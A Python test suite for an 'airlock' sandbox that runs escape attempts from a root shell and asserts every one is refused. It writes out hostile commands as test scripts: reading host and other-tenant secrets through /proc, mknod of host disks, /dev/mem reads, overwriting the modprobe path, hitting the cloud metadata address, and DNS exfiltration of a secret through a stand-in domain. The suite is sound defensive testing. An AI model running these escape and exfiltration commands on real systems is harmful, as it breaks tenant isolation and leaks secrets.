#!/usr/bin/env python3
"""Escape suite (issue 20, "Prove it"): from a root shell in a sandbox, try to
reach the host and other tenants, and say what each attempt tried.

Every attempt must fail. Each one is a shell script run in the sandbox whose
output ends with a verdict line: `REFUSED <detail>` when the attempt was
stopped, `ESCAPED <detail>` when it got through. The table of attempts and
verdicts is printed, so a run shows what was tried (AIRLOCK_E2E_VERBOSE=1
prints it on success too).

On the vm backend the guest has its own kernel, and root in it may mount,
load modules and write /sys of that kernel: those attempts are about the
ns jail only, and on vm the suite asks instead whether anything of the host
shows through (no shared file system, no host devices, the network only
through the gateway). Raw syscalls (kcmp, pidfd_getfd, AF_VSOCK, ...) are
probed from python3 in test_debian's allowlist test; network policy in depth
is test_network's.
"""
import ipaddress
import os
import secrets
import tempfile

from harness import BACKEND, AirlockTestCase, main

NS_ONLY = "ns"
RUNS_ON = BACKEND or "ns"


class EscapeTest(AirlockTestCase):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        # A policy naming one test domain: nothing the suite tries may make
        # the gateway resolve or dial a name out of this machine.
        net = {"allow": {"domains": ["allowed.test"]}}
        cls.a = cls.api.create(template="busybox", network=net)["id"]
        cls.b = cls.api.create(template="busybox", network=net)["id"]
        cls.addr_a = cls.api.call("GET", f"/v1/sandboxes/{cls.a}/network")["addr"]
        cls.addr_b = cls.api.call("GET", f"/v1/sandboxes/{cls.b}/network")["addr"]
        # A secret on the host, and one in the other tenant's sandbox.
        cls.tmp = tempfile.mkdtemp(prefix="airlock-escape-")
        cls.host_secret = secrets.token_hex(16)
        cls.host_file = os.path.join(cls.tmp, "host-secret")
        with open(cls.host_file, "w") as f:
            f.write(cls.host_secret)
        os.chmod(cls.tmp, 0o755)
        os.chmod(cls.host_file, 0o644)  # readable by anyone on the host
        cls.b_secret = secrets.token_hex(16)
        cls.api.exec(cls.b, ["sh", "-c", f"echo {cls.b_secret} > /root/b-secret"])
        cls.api.exec(cls.b, ["sh", "-c", "nc -l -p 8080 -e echo reached >/dev/null 2>&1 &"])

    @classmethod
    def tearDownClass(cls):
        for sid in (cls.a, cls.b):
            cls.api.delete(sid)
        os.unlink(cls.host_file)
        os.rmdir(cls.tmp)
        super().tearDownClass()

    def attempts(self):
        """(name, backends or None for both, script). The script prints the
        verdict as its last line."""
        host_end = str(ipaddress.ip_address(self.addr_a) - 1)
        hs, bs = self.host_secret, self.b_secret
        no_secret = (lambda what, cmd, secret:
                     f"out=$({cmd} 2>&1); case \"$out\" in *{secret}*) echo ESCAPED {what};; "
                     f"*) echo REFUSED {what} not seen;; esac")
        return [
            ("host file by path", None, no_secret("host file", f"cat {self.host_file}", hs)),
            ("host file by search", None,
             no_secret("host file", "grep -rl " + hs + " / --exclude-dir=proc 2>/dev/null | head -1", hs)),
            ("host file via /proc/*/root", None,
             no_secret("host file", f"cat /proc/*/root{self.host_file}", hs)),
            ("other sandbox's file", None,
             no_secret("the other sandbox file", "cat /proc/*/root/root/b-secret /root/b-secret", bs)),
            ("host processes", None,
             f"if kill -0 {os.getpid()} 2>/dev/null && grep -q python /proc/{os.getpid()}/cmdline 2>/dev/null;"
             " then echo ESCAPED sees the test runner; else echo REFUSED host pid not visible; fi"),
            ("host block device", NS_ONLY,
             "mknod /tmp/sda b 8 0 2>/dev/null && head -c 1 /tmp/sda >/dev/null 2>&1"
             " && echo ESCAPED read a host disk || echo REFUSED mknod or read denied"),
            ("host memory", NS_ONLY,
             "head -c 1 /dev/mem >/dev/null 2>&1 || head -c 1 /dev/kmem >/dev/null 2>&1"
             " && echo ESCAPED /dev/mem || echo REFUSED no /dev/mem"),
            ("kvm device", None,
             "test -e /dev/kvm && echo ESCAPED /dev/kvm present || echo REFUSED no /dev/kvm"),
            ("mount a file system", NS_ONLY,
             "mkdir -p /tmp/m; mount -t tmpfs x /tmp/m 2>/dev/null && echo ESCAPED mounted"
             " || echo REFUSED mount denied"),
            ("mount proc again", NS_ONLY,
             "mkdir -p /tmp/p; mount -t proc proc /tmp/p 2>/dev/null && echo ESCAPED mounted proc"
             " || echo REFUSED mount denied"),
            ("load a kernel module", NS_ONLY,
             "echo junk > /tmp/x.ko; insmod /tmp/x.ko 2>/dev/null && echo ESCAPED insmod"
             " || echo REFUSED insmod denied"),
            ("set the module loader", NS_ONLY,
             "echo /tmp/evil > /proc/sys/kernel/modprobe 2>/dev/null && echo ESCAPED modprobe path"
             " || echo REFUSED /proc/sys read-only"),
            ("keyring", NS_ONLY,
             "test -c /proc/keys && echo REFUSED /proc/keys masked || "
             "{ test -s /proc/keys && echo ESCAPED keys listed || echo REFUSED no keys; }"),
            ("sysfs", NS_ONLY,
             "mkdir -p /tmp/s; if mount -t sysfs s /tmp/s 2>/dev/null || test -w /sys/kernel;"
             " then echo ESCAPED sysfs; else echo REFUSED no sysfs; fi"),
            ("cgroup write", NS_ONLY,
             "for f in /sys/fs/cgroup/cgroup.procs /sys/fs/cgroup/memory/memory.limit_in_bytes; do"
             " test -e $f && echo 1 > $f 2>/dev/null && { echo ESCAPED wrote $f; exit; }; done;"
             " echo REFUSED no cgroup file writable"),
            ("sysrq", NS_ONLY,
             "echo h > /proc/sysrq-trigger 2>/dev/null && echo ESCAPED sysrq || echo REFUSED sysrq denied"),
            ("host kernel log", NS_ONLY,
             "dmesg >/dev/null 2>&1 && echo ESCAPED dmesg || echo REFUSED dmesg denied"),
            ("the api through the host end", None,
             f"timeout 5 wget -q -O - http://{host_end}:{self.server.port}/v1/health >/dev/null 2>&1"
             " && echo ESCAPED reached the api || echo REFUSED api unreachable"),
            ("nodemgr or node sockets", None,
             "ls /run/airlock* /var/lib/airlock 2>/dev/null | grep -q sock && echo ESCAPED sockets"
             " || echo REFUSED no daemon socket in view"),
            ("metadata address", None,
             "timeout 5 wget -q -O - http://169.254.169.254/latest/meta-data/ >/dev/null 2>&1"
             " && echo ESCAPED metadata || echo REFUSED metadata unreachable"),
            ("other sandbox over the network", None,
             f"out=$(echo hi | timeout 5 nc -w 2 {self.addr_b} 8080 2>&1); case \"$out\" in"
             " *reached*) echo ESCAPED reached the other sandbox;; *) echo REFUSED other sandbox unreachable;; esac"),
            ("IPv6 out", None,
             "ip -6 route get 2001:db8::1 2>&1 | grep -q via && echo ESCAPED v6 route"
             " || echo REFUSED no IPv6 route"),
            ("raw socket", NS_ONLY,
             f"ping -c 1 -W 1 {host_end} >/dev/null 2>&1 && echo ESCAPED raw ICMP"
             " || echo REFUSED no raw socket"),
            ("a host file system shared in", None,
             "grep -E ' (virtiofs|9p|nfs|fuse[a-z.]*) ' /proc/mounts | grep -v '^airlock-' | head -1 |"
             " grep -q . && echo ESCAPED shared fs || echo REFUSED no shared file system"),
            ("vsock to the hypervisor", None,
             "test -e /dev/vsock -o -e /dev/vhost-vsock && echo ESCAPED vsock device"
             " || echo REFUSED no vsock device"),
            ("QEMU devices beyond net, disk, console, rng", None,
             "extra=''; for d in /sys/bus/virtio/devices/*/device; do test -e $d || continue;"
             " case $(cat $d) in 0x0001|0x0002|0x0003|0x0004) ;; *) extra=\"$extra $(cat $d)\";; esac;"
             " done; test -n \"$extra\" && echo ESCAPED virtio device$extra"
             " || echo REFUSED only net, block, console and rng devices"),
            ("DNS exfiltration", None,
             f"out=$(nslookup {self.host_secret[:12]}.exfil.test 2>&1);"
             " case \"$out\" in *REFUSED*|*NXDOMAIN*|*\"can't resolve\"*) echo REFUSED name refused;;"
             " *) echo ESCAPED resolved;; esac"),
        ]

    def test_the_probe_sees_what_is_there(self):
        # The control: the same probe finds a secret that is in the
        # sandbox, so a REFUSED above is not the probe failing to look.
        token = secrets.token_hex(8)
        script = (f"echo {token} > /root/mine; out=$(cat /root/mine 2>&1); case \"$out\" in"
                  f" *{token}*) echo ESCAPED seen;; *) echo REFUSED not seen;; esac")
        code, out, _, _ = self.api.exec(self.a, ["sh", "-c", script])
        self.assertEqual(out.strip(), b"ESCAPED seen")

    def test_every_attempt_fails(self):
        rows, escaped = [], []
        for name, backends, script in self.attempts():
            if backends is not None and backends != RUNS_ON:
                rows.append((name, "n/a on this backend (see the module's doc)"))
                continue
            code, out, err, _ = self.api.exec(self.a, ["sh", "-c", script])
            lines = out.decode(errors="replace").strip().splitlines()
            verdict = lines[-1] if lines else f"no verdict (exit {code}: {err[-200:]!r})"
            rows.append((name, verdict))
            if not verdict.startswith("REFUSED"):
                escaped.append((name, verdict, script))
        table = "\n".join(f"  {n:34} {v}" for n, v in rows)
        if escaped or os.environ.get("AIRLOCK_E2E_VERBOSE"):
            print(f"\nescape attempts ({RUNS_ON}):\n{table}")
        self.assertEqual(escaped, [], table)
        # the gateway saw and refused the network attempts by name or address
        log = self.api.call("GET", f"/v1/sandboxes/{self.a}/network/log")["entries"]
        self.assertFalse([e for e in log if e["decision"] == "allow"], log)
        self.assertTrue([e for e in log if e["proto"] == "dns" and e["decision"] == "deny"], log)
        # and the sandbox still works
        code, out, _, _ = self.api.exec(self.a, ["echo", "alive"])
        self.assertEqual((code, out), (0, b"alive\n"))


if __name__ == "__main__":
    main()
